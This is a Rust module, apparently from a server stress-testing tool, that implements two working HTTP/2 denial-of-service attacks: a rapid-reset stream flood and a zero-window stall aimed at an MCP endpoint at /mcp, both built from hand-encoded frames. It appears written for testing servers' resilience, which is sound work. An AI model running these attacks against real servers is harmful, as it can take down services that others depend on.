//! Attacks that are made of frames of HTTP/2 (RFC 9113).

use std::io::Result;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::sleep;

use crate::load::{Answers, Target, Transport, begin_session};
use crate::wire::Connection;

/// Opens streams and resets them at once (RFC 9113, 6.4), a hundred every 10 ms.
pub(super) async fn rapid_reset(address: SocketAddr) -> Result<()> {
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
    // GET, http, /, and `:authority: localhost` as a literal (RFC 7541, 6.1 and 6.2.2).
    let head = [&[0x82, 0x86, 0x84, 0x01, 9][..], b"localhost"].concat();
    for first in (1_u32..).step_by(200) {
        let mut burst = Vec::new();
        for id in (first..first + 200).step_by(2) {
            burst.extend_from_slice(&frame(HEADERS, END_HEADERS | END_STREAM, id, &head));
            burst.extend_from_slice(&frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
        }
        stream.write_all(&burst).await?;
        sleep(Duration::from_millis(10)).await;
        let mut answers = [0; 4096];
        while let Ok(read) = stream.try_read(&mut answers) {
            if read == 0 {
                return Ok(());
            }
        }
    }
    Ok(())
}

/// Opens streams whose answers have no room in a window of no bytes (RFC 9113, 6.9.2), and otherwise does all that a client
/// should, so that its connection stays.
pub(super) async fn zero_window(address: SocketAddr) -> Result<()> {
    let target = Target { address, path: "/mcp".to_owned(), transport: Transport::Streamable, answers: Answers::Own };
    let session = begin_session(&target, &mut Connection::open(address).await?).await?.unwrap_or_default();
    let mut stream = TcpStream::connect(address).await?;
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0])).await?;
    // POST, http, /mcp, and four literals (RFC 7541, 6.1 and 6.2.2; 1, 19 and 31 of the static table).
    let mut head = vec![0x83, 0x86];
    for (name, value) in [
        (&[0x04][..], "/mcp"),
        (&[0x01], "localhost"),
        (&[0x0f, 0x04], "application/json, text/event-stream"),
        (&[0x0f, 0x10], "application/json"),
        (b"\x00\x0emcp-session-id", &session),
    ] {
        head.extend_from_slice(name);
        head.push(u8::try_from(value.len()).unwrap_or_default());
        head.extend_from_slice(value.as_bytes());
    }
    let text = "x".repeat(TEXT_BYTES);
    // The server says first for how much it has room itself, which is more than all of this.
    answer_frame(&mut stream).await?;
    for id in (1..).step_by(2).take(STREAMS) {
        let body = format!(
            r#"{{"jsonrpc":"2.0","id":{id},"method":"tools/call","params":{{"name":"echo","arguments":{{"text":"{text}"}}}}}}"#
        );
        stream.write_all(&frame(HEADERS, END_HEADERS, id, &head)).await?;
        stream.write_all(&frame(DATA, END_STREAM, id, body.as_bytes())).await?;
    }
    loop {
        answer_frame(&mut stream).await?;
    }
}

/// Reads a frame, and answers it if it is one that has to be.
async fn answer_frame(stream: &mut TcpStream) -> Result<()> {
    let [high, middle, low, kind, flags, ..] = {
        let mut head = [0; 9];
        stream.read_exact(&mut head).await?;
        head
    };
    let mut payload = vec![0; u32::from_be_bytes([0, high, middle, low]) as usize];
    stream.read_exact(&mut payload).await?;
    match (kind, flags & ACK) {
        (SETTINGS, 0) => stream.write_all(&frame(SETTINGS, ACK, 0, &[])).await,
        (PING, 0) => stream.write_all(&frame(PING, ACK, 0, &payload)).await,
        _ => Ok(()),
    }
}

/// A frame of HTTP/2 (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let [_, length @ ..] = length;
    [&length[..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const ACK: u8 = 0x1;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const INITIAL_WINDOW_SIZE: u8 = 0x4;
/// Of one client.
const STREAMS: usize = 32;
/// With all around it, no more than a frame may have.
const TEXT_BYTES: usize = 16_000;
